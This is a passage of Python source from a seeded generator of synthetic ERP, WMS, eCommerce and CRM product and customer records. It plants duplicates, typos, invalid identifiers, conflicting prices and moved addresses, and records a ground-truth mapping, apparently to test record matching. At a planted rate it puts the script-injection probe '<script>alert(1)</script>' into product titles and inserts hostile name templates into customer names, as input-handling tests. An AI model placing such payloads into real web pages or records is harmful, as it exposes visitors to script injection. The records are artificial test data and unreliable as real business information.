            erp_desc = (_erp_abbr(tpl.name) + " " + " ".join(_erp_abbr(a) for a in attrs))[:40]
            mpn = _mpn(style, mfr_code, family, v)
            gtin = "" if r() < RATES["product_without_gtin"] else _gtin12(m, i)
            key = product_key(i)
            item_no = erp_item_no(i)
            ts = ts_family + int(r() * 86400 * 20)

            # ---- ERP item master: every product; ~1 % set up twice
            erp_copies = 2 if r() < RATES["dup_item_erp"] else 1
            for dup in range(erp_copies):
                row_id = erp_item_no(i, dup)
                desc = erp_desc if not dup else title.upper()[:40]
                g = gtin if r() >= RATES["gtin_missing_erp"] * (1 + 5 * dup) else ""
                if g and r() < 0.4:
                    g = "00" + g  # GTIN-14 as the ERP's field is sized for it
                mfr_text = mfr_full.upper() if r() < 0.6 else (mfr_full if r() < 0.75 else brand.upper())
                part = mpn if r() < 0.94 else mpn.replace("-", "")
                row = [row_id, desc, mfr_text, part, g, tpl.base_uom, tpl.pack_uom, pack,
                       f"{price:.4f}", "USD", tpl.category.split(" > ")[0].upper(), f"{kg:.3f}",
                       status if not dup else "O", "BUY" + str(1 + m % 9), _ts(ts + dup * 86400 * 90)]
                if dup:
                    sink.plant("duplicate_item_erp")
                if r() < bad:
                    row = _bad_product_row(r, sink, row, 0, 1, 4)
                erp_rows.append(row)
                gt.append(("product", "erp", row[0], key))

            # ---- WMS: ~80 %, fewer obsolete items
            if r() < p_wms * (1.0 if status == "A" else 0.4):
                wms_copies = 2 if r() < RATES["dup_item_wms"] else 1
                for dup in range(wms_copies):
                    # the WMS mostly reuses the ERP item number; legacy items kept their own code
                    code = item_no if r() < 0.85 and not dup else f"W{800000 + i}" + (f"-{dup}" if dup else "")
                    short = erp_desc[:30] if r() < 0.7 else title.upper()[:30]
                    upc = gtin if r() >= RATES["gtin_missing_wms"] else ""
                    part = mpn if r() < 0.65 else mpn.replace("-", "").replace("/", "")
                    qty = pack
                    if r() < RATES["wms_pack_qty_conflict"]:
                        qty = pack * 2 if pack < 50 else pack // 2
                        sink.plant("pack_qty_conflict_wms")
                    wkg = kg * (0.95 + 0.1 * r()) if r() < 0.2 else kg
                    row = [code, short, upc, part, tpl.base_uom, qty, f"{wkg:.3f}",
                           f"{chr(65 + int(r() * 20))}{int(r() * 40) + 1:02d}-{int(r() * 6) + 1}",
                           _DAYS[N_DAYS - 1 - int(r() * 365)], _ts(ts + int(r() * 86400 * 200))]
                    if dup:
                        sink.plant("duplicate_item_wms")
                    if r() < bad:
                        row = _bad_product_row(r, sink, row, 0, 1, 2)
                    wms_rows.append(row)
                    gt.append(("product", "wms", row[0], key))

            # ---- eCommerce catalog: ~60 %, one web list price each
            flags = 0
            hostile_pending = hostile_pending or i in hostile_at
            if status != "D" and r() < p_ecom:
                flags |= _P_IN_ECOM
                sku = ecom_sku(i)
                x = r()
                if hostile_pending:
                    shown = f"<b>{brand}</b> <script>alert(1)</script> {tpl.name}"
                    hostile_pending = False
                    sink.plant("hostile_product_title")
                elif x < 0.6:
                    shown = f"{brand} {title}"
                elif x < 0.75:
                    shown = f"{title} | {brand}"
                else:
                    shown = title
                if r() < 0.1:
                    shown = shown.replace('"', "″")  # pasted from a PIM with typographic marks
                desc = _long_description(r, brand, tpl, attrs)
                g = gtin if r() >= RATES["gtin_missing_ecom"] else ""
                if g:
                    x = r()
                    if x < 0.25:
                        g = "0" + g  # EAN-13
                    elif x < 0.30 and g[0] == "0":
                        g = g.lstrip("0")  # a spreadsheet ate the leading zeros
                x = r()
                if x < 0.8:
                    part = mpn
                elif x < 0.85:
                    part = mpn.lower()
                elif x < 0.9:
                    part = mpn.replace("-", " ")
                elif style in (0, 2):  # the shop drops the manufacturer's prefix it shows as brand
                    part = mpn[len(mfr_code):].lstrip("-")
                else:
                    part = mpn
                web_price = price
                if r() < RATES["web_price_differs"]:
                    web_price = round(price * (0.9 + 0.2 * r()), 2 if price >= 1 else 4)
                    sink.plant("web_price_differs")
                row = [sku, shown, desc, brand, mfr_full if r() < 0.6 else "", part, g,
                       _money(web_price), "USD", tpl.category, f"https://shop.example.com/p/{sku}",
                       "true" if r() < 0.85 else "false", _ts(ts + int(r() * 86400 * 120))]
                if r() < bad:
                    row = _bad_product_row(r, sink, row, 0, 1, 6)
                eco_rows.append(row)
                gt.append(("product", "ecom", row[0], key))
                # web list price: per base unit, or per pack for items sold by the case online
                if r() < 0.1 and pack > 1:
                    uom, amount = tpl.pack_uom, web_price * pack * 0.97
                else:
                    uom, amount = tpl.base_uom, web_price
                web_ts = min(ts + int(r() * 86400 * 100), REF_SEC)
                prow = [f"WEB-{sku}", sku, "WEB", _money(amount), "USD", uom, "LIST",
                        _DAYS[max(0, web_ts // 86400 - int(r() * 30))], "", _ts(web_ts)]
                if r() < bad:
                    prow = _bad_price_row(r, sink, prow, 0, None, 1, 3)
                web_rows.append(prow)
                gt.append(("price", "ecom", prow[0], "WEB|" + key))

            # ---- CRM Product2: ~20 %, mostly keyed by the ERP item number
            if status == "A" and r() < p_crm:
                flags |= _P_IN_CRM
                if r() < 0.9:
                    flags |= _P_CRM_CODE_IS_ERP
                code = crm_product_code(i, flags)
                fams = CRM_FAMILY_ALIASES.get(tpl.family, (tpl.family,))
                obj = {"Id": salesforce_id("01t", i), "ProductCode": code,
                       "Name": title if r() < 0.7 else erp_desc,
                       "ManufacturerPartNo": mpn if r() < 0.9 else None,
                       "Family": fams[int(r() * len(fams))], "IsActive": True,
                       "LastModifiedDate": _sf_ts(ts + int(r() * 86400 * 60))}
                if r() < bad:
                    kind = "missing_id" if r() < 0.5 else "missing_name"
                    obj["ProductCode" if kind == "missing_id" else "Name"] = None
                    sink.plant(f"bad_row_{kind}")
                crm_rows.append(_jsonl(obj))
                gt.append(("product", "crm", obj["ProductCode"] or "", key))
                state.crm.append(i)

            state.flags.append(flags)
            state.pack_qty.append(min(pack, 65535))
            state.list_price_x10k.append(round(price * 10000))
            state.base_uom.append(_UOM_INDEX[tpl.base_uom])
            state.pack_uom.append(_UOM_INDEX[tpl.pack_uom])
            i += 1
        if size > 1:
            sink.plant("product_variant_families")
            sink.plant("product_variants", size)
    return _BlockResult(sink.render(), sink.planted, state)


def _long_description(r, brand: str, tpl: _Template, attrs: list[str]) -> str:
    use = DESCRIPTION_USES[int(r() * len(DESCRIPTION_USES))]
    claim = DESCRIPTION_CLAIMS[int(r() * len(DESCRIPTION_CLAIMS))]
    if r() < 0.4:  # many shop platforms store descriptions as HTML fragments
        items = "".join(f"<li>{a}</li>" for a in attrs)
        return f"<p>The {brand} {tpl.name.lower()} for {use}.</p><ul>{items}</ul><p>{claim}</p>"
    return f"{brand} {tpl.name.lower()}, {', '.join(attrs).lower()}. Ideal for {use}. {claim}"


def _bad_product_row(r, sink: _Sink, row: list, id_col: int, name_col: int, gtin_col: int) -> list:
    x = r()
    if x < 0.3:
        row[id_col] = ""
        sink.plant("bad_row_missing_id")
    elif x < 0.6:
        row[name_col] = ""
        sink.plant("bad_row_missing_name")
    else:
        g = row[gtin_col] or "012345678905"
        row[gtin_col] = g[:-1] + str((int(g[-1]) + 3) % 10)
        sink.plant("bad_row_invalid_gtin")
    return row


def _bad_price_row(r, sink: _Sink, row: list, id_col: int, cust_col: int | None, prod_col: int,
                   price_col: int) -> list:
    x = r()
    if x < 0.25:
        row[id_col] = ""
        sink.plant("bad_row_missing_id")
    elif x < 0.5:
        row[prod_col] = ""
        sink.plant("bad_row_missing_product")
    elif x < 0.75 or cust_col is None:
        row[price_col] = "" if r() < 0.5 else "N/A"
        sink.plant("bad_row_missing_price")
    else:
        row[cust_col] = "999" + row[cust_col][-5:]  # points at no customer of the extract
        sink.plant("bad_row_orphan_customer")
    return row


# --------------------------------------------------------------------------- #
# Customers (and their prices)
# --------------------------------------------------------------------------- #


class _Address:
    __slots__ = ("area", "canadian", "city", "direction", "line", "num", "state", "street", "stype",
                 "unit", "unit_no", "zip4", "zip5")


class _Customer:
    __slots__ = ("acct_type", "addr", "comma", "created", "credit", "crm_ids", "currency",
                 "domain", "duns", "ecom_ids", "employees", "erp_name", "erp_nos", "ext", "first",
                 "hostile", "hq", "i", "industry", "is_branch", "key", "last", "moved_at", "old",
                 "status", "suffix", "suffix_cls", "tax", "terms", "words")


def _company_words(r) -> list[str]:
    x = r()
    pick = _pick
    if x < 0.28:
        words = [pick(r, SURNAMES), *pick(r, TRADES).split(), pick(r, BIZ)]
    elif x < 0.42:
        words = [*pick(r, PLACES).split(), *pick(r, TRADES).split(), pick(r, BIZ)]
    elif x < 0.52:
        words = [pick(r, SURNAMES), "&", pick(r, SURNAMES)]
        if r() < 0.6:
            words.append(pick(r, BIZ))
    elif x < 0.58:
        words = [pick(r, SURNAMES), "Brothers" if r() < 0.5 else "& Sons", *pick(r, TRADES).split()]
        words = " ".join(words).split()
    elif x < 0.78:
        words = [pick(r, COINED), *pick(r, TRADES).split(), pick(r, BIZ)]
    elif x < 0.87:
        words = [pick(r, COINED), pick(r, BIZ)]
    elif x < 0.95:
        a, b = chr(65 + int(r() * 26)), chr(65 + int(r() * 26))
        lead = (f"{a}&{b}", f"{a}{b}{chr(65 + int(r() * 26))}", f"{a}-1", f"{a}.{b}.")[int(r() * 4)]
        words = [lead, *pick(r, TRADES).split(), pick(r, BIZ)]
    else:
        words = ["The", pick(r, SURNAMES), *pick(r, TRADES).split()]
    return words


def _pick(r, seq):
    return seq[int(r() * len(seq))]


def _new_address(r, canadian: bool) -> _Address:
    a = _Address()
    a.num = str(int(10 + r() * r() * 19990))
    a.direction = int(r() * 4) if r() < 0.15 else -1
    a.street = STREET_NAMES[int(r() * len(STREET_NAMES))]
    a.stype = int(r() * len(STREET_TYPES))
    a.unit = int(r() * len(UNITS)) if r() < 0.3 else -1
    if a.unit >= 5:  # floors and docks are numbered plainly
        a.unit_no = str(1 + int(r() * 12))
    else:
        a.unit_no = str(int(r() * 40) * 10 + 100) if r() < 0.7 else chr(65 + int(r() * 8))
    a.canadian = canadian
    if canadian:
        city, prov, fsa, area = CA_CITIES[int(r() * len(CA_CITIES))]
        a.city, a.state, a.area = city, prov, area
        a.zip5 = f"{fsa} {int(r() * 10)}{chr(65 + int(r() * 26))}{int(r() * 10)}"
        a.zip4 = ""
    else:
        city, st, z3, area = CITIES[int(r() * len(CITIES))]
        a.city, a.state, a.area = city, st, area
        a.zip5 = f"{z3}{int(r() * 100):02d}"
        a.zip4 = f"{int(r() * 10000):04d}"
    a.line = f"{int(r() * 10000):04d}"
    return a


def _relocate(r, old: _Address) -> _Address:
    """Where a company moved to: same metro (new street) or another city."""
    new = _new_address(r, old.canadian)
    if r() < 0.6:
        new.city, new.state, new.area = old.city, old.state, old.area
        new.zip5 = old.zip5[:3] + f"{int(r() * 100):02d}" if not old.canadian else new.zip5
    if r() < 0.5:
        new.line = old.line  # kept their number
        new.area = old.area
    return new


def _new_customer(r, i: int, hq: _Customer | None) -> _Customer:
    c = _Customer()
    c.i = i
    c.key = customer_key(i)
    c.hq = hq
    c.is_branch = hq is not None
    c.hostile = None
    c.erp_name = ""
    if hq is not None:
        # a branch: same name, own address, phone and (often) tax ID
        c.words, c.suffix, c.suffix_cls, c.comma = hq.words, hq.suffix, hq.suffix_cls, hq.comma
        c.addr = _new_address(r, hq.addr.canadian)
        c.tax = hq.tax if r() < RATES["branch_shares_hq_tax_id"] else _ein(r)
        c.duns = "" if r() < 0.5 else f"{int(r() * 1e9):09d}"
        c.domain = hq.domain
        c.currency = hq.currency
        c.industry = hq.industry
        c.acct_type = "SHIP_TO"
        c.credit = hq.credit
        c.terms = hq.terms
        c.created = hq.created + int(r() * (REF_SEC - hq.created) * 0.7)
    else:
        c.words = _company_words(r)
        x = r()
        cls = -1
        for k, w in enumerate(SUFFIX_WEIGHTS):
            if x < w:
                cls = k
                break
        if c.words[0] == "The":
            cls = 3
        c.suffix_cls = cls
        if cls >= 0:
            forms = SUFFIXES[cls]
            c.suffix = forms[min(0 if r() < 0.6 else 1 if r() < 0.5 else 2, len(forms) - 1)]
        else:
            c.suffix = ""
        c.comma = cls == 0 and r() < 0.35
        canadian = r() < RATES["canadian"]
        c.addr = _new_address(r, canadian)
        c.tax = _ein(r) if not canadian else f"{int(r() * 1e9):09d}RT0001"
        c.duns = f"{int(r() * 1e9):09d}" if r() < 0.45 else ""
        stem = _NOT_ALNUM.sub("", _ascii_fold("".join(c.words[:2])).lower())
        c.domain = (stem or "company") + (".ca" if canadian and r() < 0.6 else ".com")
        c.currency = "CAD" if canadian else "USD"
        c.industry = INDUSTRIES[int(r() * len(INDUSTRIES))]
        c.acct_type = "SOLD_TO"
        c.terms = PAYMENT_TERMS[int(r() * len(PAYMENT_TERMS))]
        c.credit = 0 if c.terms == "COD" else CREDIT_LIMITS[int(r() * len(CREDIT_LIMITS))]
        c.created = int(r() * (REF_SEC - 86400 * 60))
    c.first = FIRST_NAMES[int(r() * len(FIRST_NAMES))]
    c.last = SURNAMES[int(r() * len(SURNAMES))]
    c.ext = str(int(10 + r() * 490)) if r() < 0.08 else ""
    c.status = "ACTIVE" if r() < 0.9 else ("INACTIVE" if r() < 0.6 else "HOLD")
    c.employees = int(5 + r() * r() * 2000)
    c.old = None
    c.moved_at = 0
    if r() < RATES["moved"]:
        c.old = c.addr
        c.addr = _relocate(r, c.old)
        c.moved_at = c.created + int((REF_SEC - c.created) * (0.3 + 0.6 * r()))
    c.erp_nos, c.crm_ids, c.ecom_ids = [], [], []
    return c


def _ein(r) -> str:
    if r() < RATES["invalid_tax_id"]:
        x = r()
        if x < 0.5:
            return f"{INVALID_EIN_PREFIXES[int(r() * len(INVALID_EIN_PREFIXES))]}-{int(r() * 1e7):07d}"
        if x < 0.8:
            # a digit short
            return f"{VALID_EIN_PREFIXES[int(r() * len(VALID_EIN_PREFIXES))]}-{int(r() * 1e6):06d}"
        return _pick(r, ("11-1111111", "99-9999999", "12-3456789", "00-0000000"))
    return f"{VALID_EIN_PREFIXES[int(r() * len(VALID_EIN_PREFIXES))]}-{int(r() * 1e7):07d}"


def _name(r, c: _Customer, abbrev: float, typo: float, suffix_vary: float, drop_suffix: float,
          sink: _Sink) -> str:
    if c.hostile:
        return c.hostile
    words = c.words
    if r() < abbrev:
        words = [ABBREVIATIONS[w][int(r() * len(ABBREVIATIONS[w]))] if w in ABBREVIATIONS and r() < 0.7
                 else w for w in words]
        sink.plant("name_abbreviated")
    if len(words) >= 3 and r() < RATES["reordered_words"]:
        if words[0] == "The":
            words = words[1:] + [","] + ["The"]
        else:
            k = int(r() * (len(words) - 1))
            words = words[:k] + [words[k + 1], words[k]] + words[k + 2:]
        sink.plant("name_words_reordered")
    text = " ".join(words).replace(" , ", ", ")
    if c.suffix_cls >= 0 and r() >= drop_suffix:
        suffix = c.suffix
        if r() < suffix_vary:
            variants = SUFFIXES[c.suffix_cls]
            suffix = variants[int(r() * len(variants))]
        text += (", " if (c.comma or r() < 0.05) and c.suffix_cls == 0 else " ") + suffix
    if r() < typo:
        text = _typo(r, text)
        sink.plant("name_typo")
    return text


def _street(r, a: _Address, long_type: float, unit_line2: float) -> tuple[str, str]:
    stype = STREET_TYPES[a.stype][0 if r() < long_type else 1]
    parts = [a.num]
    if a.direction >= 0:
        parts.append(DIRECTIONS[a.direction][0 if r() < long_type else 1])
    parts.append(a.street)
    parts.append(stype)
    line1 = " ".join(parts)
    if a.unit < 0:
        return line1, ""
    unit = UNITS[a.unit][0 if r() < long_type else 1] + " " + a.unit_no
    if r() < 0.08:
        unit = "#" + a.unit_no
    if r() < unit_line2:
        return line1, unit
    return line1 + (", " if r() < 0.5 else " ") + unit, ""


def _phone(r, area: str, line: str, ext: str, style: int) -> str:
    x = r()
    if style == 0:  # ERP: one house format, mostly
        if x < 0.8:
            p = f"{area}-555-{line}"
        else:
            p = f"({area})555-{line}" if x < 0.9 else f"{area}555{line}"
        return p + (f" X{ext}" if ext and r() < 0.5 else "")
    if style == 1:  # CRM: Salesforce's formatting for US numbers, plus pasted ones
        if x < 0.75:
            p = f"({area}) 555-{line}"
        else:
            p = f"{area}-555-{line}" if x < 0.9 else f"+1 {area} 555 {line}"
        return p + (f" ext. {ext}" if ext and r() < 0.6 else "")
    # eCommerce: as typed
    if x < 0.25:
        p = f"({area}) 555-{line}"
    elif x < 0.45:
        p = f"{area}-555-{line}"
    elif x < 0.6:
        p = f"{area}.555.{line}"
    elif x < 0.72:
        p = f"{area}555{line}"
    elif x < 0.82:
        p = f"+1 {area} 555 {line}"
    elif x < 0.9:
        p = f"1-{area}-555-{line}"
    elif x < 0.96:
        p = f"{area} 555 {line}"
    else:
        p = f"+1{area}555{line}"
    if ext and r() < 0.7:
        p += _pick(r, (f" x{ext}", f" ext {ext}", f" ext. {ext}", f"x{ext}"))
    return p


def _source_timestamps(r, c: _Customer, sources: list[str]) -> tuple[dict[str, int], dict[str, bool]]:
    """Last-modified time per source and whether that source still has the old address.

    A moved company's old address survives in systems nobody updated; their
    timestamps predate the move, and at least one system has the new one."""
    span = REF_SEC - c.created
    ts = {s: c.created + int(span * r()) for s in sources}
    old = dict.fromkeys(sources, False)
    if c.old is not None and len(sources) >= 2:
        keep_new = "erp" if "erp" in sources and r() < 0.7 else sources[int(r() * len(sources))]
        others = [s for s in sources if s != keep_new]
        stale = [s for s in others if r() < 0.6] or others[:1]
        for s in sources:
            if s in stale:
                old[s] = True
                ts[s] = c.created + int((c.moved_at - c.created) * r())
            else:
                ts[s] = c.moved_at + 3600 + int((REF_SEC - c.moved_at - 3600) * r())
    return ts, old


def _erp_customer_row(r, c: _Customer, dup: int, ts: int, old: bool, sink: _Sink) -> list:
    a = c.old if old else c.addr
    hq = c.hq
    if hq is not None and hq.erp_name and r() < RATES["erp_branch_copies_hq_name"]:
        name = hq.erp_name  # ship-to accounts are opened by copying the HQ's
        upper = name.isupper()
    else:
        upper = r() < RATES["erp_upper_case"]
        name = _name(r, c, RATES["abbrev_erp"], RATES["typo_erp"], 0.15, 0.03, sink)
    if c.is_branch and r() < RATES["erp_branch_name_with_city"]:
        name = f"{name} - {a.city}"
    name = name[:40]  # the legacy screen's field width
    if not dup and not c.is_branch:
        c.erp_name = name.upper() if upper else name
    line1, line2 = _street(r, a, 0.15, 0.9)
    zip_ = a.zip5 + "-" + a.zip4 if a.zip4 and r() < 0.35 else a.zip5
    parent = bill_to = ""
    if hq is not None and hq.erp_nos:
        parent = hq.erp_nos[0]
        bill_to = hq.erp_nos[0] if r() < 0.9 else ""
    elif c.acct_type == "BILL_TO":
        bill_to = ""
    email = ""
    contact = ""
    x = r()
    if x < 0.45:
        email = _pick(r, ("ap@", "accountspayable@", "invoices@", "purchasing@")) + c.domain
        contact = "ACCOUNTS PAYABLE" if r() < 0.5 else ""
    elif x < 0.75:
        email = f"{_ascii_fold(c.first)[0]}{_ascii_fold(c.last)}@{c.domain}".lower()
        contact = f"{c.first} {c.last}"
    terms, credit, status = c.terms, c.credit, c.status
    if dup:
        terms, credit = "COD", 0  # the second account was opened cash-only
        status = "INACTIVE" if r() < 0.5 else status
    country = ("CA" if r() < 0.7 else "CAN") if a.canadian else ("US" if r() < 0.7 else "USA")
    row = [c.erp_nos[dup], name, c.acct_type, parent, bill_to, c.tax if r() < 0.92 else "",
           c.duns, line1, line2, a.city, a.state, zip_, country, _phone(r, a.area, a.line, c.ext, 0),
           email, contact, f"{credit:.2f}", c.currency, terms, status, SALES_REPS[int(r() * len(SALES_REPS))],
           TERRITORIES.get(a.state, "CA"), "Y" if r() < 0.007 else "", _ts(ts)]
    if upper:
        for k in (1, 7, 8, 9, 15):
            row[k] = row[k].upper()
    return row


def _crm_account(r, c: _Customer, dup: int, ts: int, old: bool, sink: _Sink) -> dict:
    a = c.old if old else c.addr
    name = _name(r, c, RATES["abbrev_crm"] * (3 if dup else 1), RATES["typo_crm"] * (3 if dup else 1),
                 0.35, 0.08, sink)
    if r() < 0.3:
        name = _ascii_fold_keep_symbols(name)
    line1, line2 = _street(r, a, 0.5, 0.0)
    street = line1 if not line2 else line1 + "\n" + line2
    if a.unit >= 0 and r() < 0.5 and "\n" not in street:
        # Salesforce keeps BillingStreet multi-line when it was typed so
        street = street.replace(", Suite", "\nSuite").replace(", Ste", "\nSte")
    state = a.state if r() < 0.7 else STATE_NAMES.get(a.state, a.state)
    zip_ = a.zip5 + "-" + a.zip4 if a.zip4 and r() < 0.2 else a.zip5
    if a.canadian:
        country = _pick(r, ("Canada", "CA", "Canada"))
    else:
        country = _pick(r, ("United States", "United States", "USA", "US", "United States of America"))
    credit = c.credit
    terms = _pick(r, CRM_TERMS[c.terms])
    if r() < RATES["credit_limit_conflict"]:
        credit = CREDIT_LIMITS[int(r() * len(CREDIT_LIMITS))]
        sink.plant("credit_limit_conflict")
    if r() < RATES["payment_terms_conflict"]:
        terms = _pick(r, ("Net 60", "Net 45", "Net 30", "Due on Receipt", "2% 10 Net 30"))
        sink.plant("payment_terms_conflict")
    website = None
    x = r()
    if x < 0.5:
        website = "www." + c.domain
    elif x < 0.7:
        website = "http://www." + c.domain
    elif x < 0.85:
        website = f"https://{c.domain}/"
    parent = None
    if c.hq is not None and c.hq.crm_ids and r() < RATES["crm_branch_parent_link"]:
        parent = c.hq.crm_ids[0]
    first, last = c.first, c.last
    if dup and r() < 0.5:
        # another rep opened it, with another contact
        first, last = FIRST_NAMES[int(r() * len(FIRST_NAMES))], SURNAMES[int(r() * len(SURNAMES))]
    created = min(ts, c.created + int(r() * 86400 * 30))
    obj = {
        "Id": c.crm_ids[dup],
        "Name": name,
        "Type": CRM_TYPES[int(r() * len(CRM_TYPES))],
        "ParentId": parent,
        "BillingStreet": street if not (dup and r() < 0.3) else None,
        "BillingCity": a.city,
        "BillingState": state,
        "BillingPostalCode": zip_,
        "BillingCountry": country if r() < 0.9 else None,
        "Phone": _phone(r, a.area, a.line, c.ext, 1) if r() < 0.93 else None,
        "Website": website,
        "PrimaryContact": f"{first} {last}" if r() < 0.85 else None,
        "ContactEmail": f"{_ascii_fold(first)}.{_ascii_fold(last)}@{c.domain}".lower() if r() < 0.8 else None,
        "Tax_ID__c": c.tax if r() < 0.3 else None,
        "PaymentTerms": terms if r() < 0.9 else None,
        "CreditLimit": credit if r() < 0.85 else None,
        "CurrencyIsoCode": c.currency,
        "OwnerName": OWNERS[int(r() * len(OWNERS))],
        "Industry": c.industry,
        "NumberOfEmployees": c.employees if r() < 0.6 else None,
        "IsDeleted": r() < 0.005,
        "CreatedDate": _sf_ts(created),
        "LastModifiedDate": _sf_ts(ts),
    }
    return obj


_FOLD_LETTERS = str.maketrans({k: v for k, v in _FOLD.items() if v})


def _ascii_fold_keep_symbols(s: str) -> str:
    return s.translate(_FOLD_LETTERS)


def _ecom_account_row(r, c: _Customer, dup: int, ts: int, old: bool, sink: _Sink) -> list:
    a = c.old if old else c.addr
    if r() < 0.01 and not c.hostile:
        name = f"{c.first} {c.last}"  # a sole trader typing their own name as the company
    else:
        name = _name(r, c, RATES["abbrev_ecom"], RATES["typo_ecom"], 0.5, 0.3, sink)
    x = r()
    if not c.hostile:
        if x < RATES["ecom_lower_case"]:
            name = name.lower()
        elif x < RATES["ecom_lower_case"] + RATES["ecom_upper_case"]:
            name = name.upper()
        if r() < 0.5:
            name = _ascii_fold_keep_symbols(name)
        if "'" in name and r() < 0.3:
            name = name.replace("'", "’")  # phones turn apostrophes typographic
        if r() < 0.03:
            name = _pick(r, (name + " ", " " + name, name.replace(" ", "  ", 1)))
    first, last = c.first, c.last
    if dup and r() < 0.4:
        first, last = FIRST_NAMES[int(r() * len(FIRST_NAMES))], SURNAMES[int(r() * len(SURNAMES))]
    contact = f"{first} {last}"
    if r() < 0.2:
        contact = contact.lower()
    if r() < RATES["ecom_personal_email"] or (dup and r() < 0.5):
        f, la = _ascii_fold(first).lower(), _ascii_fold(last).lower()
        local = _pick(r, (f"{f}.{la}", f"{f[0]}{la}", f"{f}{la}{int(r() * 90) + 10}", f"{la}.{f[:1]}"))
        email = f"{local}@{PERSONAL_DOMAINS[int(r() * len(PERSONAL_DOMAINS))]}"
        sink.plant("ecom_personal_email")
    else:
        email = f"{_ascii_fold(first).lower()}@{c.domain}"
    if r() < 0.05:
        email = email.capitalize()
    phone = "" if r() < RATES["ecom_missing_phone"] else _phone(r, a.area, a.line, c.ext, 2)
    if r() < RATES["ecom_missing_address"]:
        line1 = line2 = city = state = zip_ = ""
        sink.plant("ecom_missing_address")
    else:
        line1, line2 = _street(r, a, 0.35, 0.4)
        if r() < 0.25:
            line1 = line1.lower()
        if r() < 0.003:
            line1 = line1 + "\nAttn: Receiving"  # a textarea lets people press Enter
        city = a.city if r() < 0.8 else (a.city.lower() if r() < 0.5 else a.city.upper())
        if r() < 0.02:
            city = _typo(r, city)
        x = r()
        if x < 0.6:
            state = a.state
        elif x < 0.7:
            state = a.state.lower()
        elif x < 0.9:
            state = STATE_NAMES.get(a.state, a.state)
        elif x < 0.95:
            state = STATE_NAMES.get(a.state, a.state).lower()
        else:
            state = STATE_AP.get(a.state, a.state)
        if a.canadian:
            zip_ = a.zip5 if r() < 0.6 else a.zip5.replace(" ", "").lower()
        else:
            zip_ = a.zip5 + "-" + a.zip4 if r() < 0.05 else a.zip5
            if zip_[0] == "0" and r() < 0.3:
                zip_ = zip_.lstrip("0")  # opened in a spreadsheet on the way
                sink.plant("zip_leading_zero_lost")
        if not line2 and r() < 0.02:
            line2 = "N/A"
    if a.canadian:
        country = _pick(r, ("Canada", "CA", "canada", ""))
    else:
        country = _pick(r, ("United States", "United States", "US", "USA", "usa", "U.S.A.", "", ""))
    created = c.created + int((ts - c.created) * r() * 0.5)
    return [c.ecom_ids[dup], name, contact, email, phone, line1, line2, city, state, zip_,
            country, "Business" if r() < 0.85 else "Retail", "yes" if r() < 0.2 else "no",
            "Y" if r() < 0.3 else "N", _ts(created), _ts(ts)]


def _customer_block(task: tuple[int, int, int, int, float]) -> _BlockResult:
    seed, block_no, start, end, agreements_mean = task
    pstate = _WORKER_STATE["products"]
    rng = random.Random(f"{seed}:customers:{block_no}")
    r = rng.random
    sink = _Sink(CUSTOMER_PHASE_FILES)
    erp_rows = sink.rows[ERP_CUSTOMERS.name]
    crm_rows = sink.rows[CRM_ACCOUNTS.name]
    eco_rows = sink.rows[ECOM_ACCOUNTS.name]
    gt = sink.rows[GROUND_TRUTH.name]
    bad = RATES["bad_row"]
    n_hostile = max(1, round((end - start) * RATES["hostile_name"]))
    hostile_at = set(rng.sample(range(start, end), min(n_hostile, end - start)))
    # A customer no system knows doesn't exist; those land in the ERP, so draw
    # the ERP a little less often to keep its overall share at the stated rate.
    nowhere = (1 - RATES["customer_in_crm"]) * (1 - RATES["customer_in_ecom"])
    p_erp = (RATES["customer_in_erp"] - nowhere) / (1 - nowhere)

    i = start
    hq = None
    branches_left = 0
    while i < end:
        if branches_left:
            c = _new_customer(r, i, hq)
            branches_left -= 1
            in_erp = r() < RATES["branch_in_erp"]
            in_crm = r() < RATES["branch_in_crm"]
            in_ecom = r() < RATES["branch_in_ecom"]
            sink.plant("branches")
        else:
            c = _new_customer(r, i, None)
            hq = c
            in_erp = r() < p_erp
            in_crm = r() < RATES["customer_in_crm"]
            in_ecom = r() < RATES["customer_in_ecom"]
            if r() < RATES["org_with_branches"] and end - i > 1:
                branches_left = min(end - i - 1, 1 + int(-math.log(1.0 - r()) * 2.2), 12)
                in_erp = True  # the HQ of a hierarchy is the ERP's bill-to/sold-to
                if r() < 0.4:
                    c.acct_type = "BILL_TO"
                sink.plant("organisations_with_branches")
        if not (in_erp or in_crm or in_ecom):
            in_erp = True
        if i in hostile_at:
            # rotate through the kinds so every run of a few blocks has each
            kind = (block_no + sink.planted.get("hostile_name", 0)) % len(HOSTILE_NAMES)
            c.hostile = HOSTILE_NAMES[kind].format(name=" ".join(c.words))
            in_ecom = True  # hostile text arrives through web forms
            sink.plant("hostile_name")
        if in_erp:
            c.erp_nos.append(erp_customer_no(i))
            if r() < RATES["dup_in_erp"]:
                c.erp_nos.append(erp_customer_no(i, 1))
        if in_crm:
            c.crm_ids.append(crm_account_id(i))
            if r() < RATES["dup_in_crm"]:
                c.crm_ids.append(crm_account_id(i, 1))
                if r() < 0.12:
                    c.crm_ids.append(crm_account_id(i, 2))
        if in_ecom:
            c.ecom_ids.append(ecom_account_id(i))
            if r() < RATES["dup_in_ecom"]:
                c.ecom_ids.append(ecom_account_id(i, 1))
        present = [s for s, ok in (("erp", in_erp), ("crm", in_crm), ("ecom", in_ecom)) if ok]
        ts, old = _source_timestamps(r, c, present)
        if c.old is not None and len(present) >= 2:
            sink.plant("moved_company")
        key = c.key

        for dup, _ in enumerate(c.erp_nos):
            row = _erp_customer_row(r, c, dup, ts["erp"] - dup * 86400 * 200, old["erp"], sink)
            if dup:
                sink.plant("duplicate_in_erp")
            if r() < bad:
                _bad_customer(r, sink, row, 0, 1)
            erp_rows.append(row)
            gt.append(("customer", "erp", row[0], key))
        for dup, _ in enumerate(c.crm_ids):
            obj = _crm_account(r, c, dup, ts["crm"] - dup * int(86400 * 400 * r()), old["crm"], sink)
            if dup:
                sink.plant("duplicate_in_crm")
            if r() < bad:
                field_ = "Id" if r() < 0.4 else "Name"
                obj[field_] = None
                sink.plant("bad_row_missing_id" if field_ == "Id" else "bad_row_missing_name")
            crm_rows.append(_jsonl(obj))
            gt.append(("customer", "crm", obj["Id"] or "", key))
        for dup, _ in enumerate(c.ecom_ids):
            row = _ecom_account_row(r, c, dup, ts["ecom"] - dup * int(86400 * 300 * r()), old["ecom"], sink)
            if dup:
                sink.plant("duplicate_in_ecom")
            if r() < bad:
                _bad_customer(r, sink, row, 0, 1)
            eco_rows.append(row)
            gt.append(("customer", "ecom", row[0], key))

        if (c.erp_nos or c.crm_ids) and agreements_mean > 0:
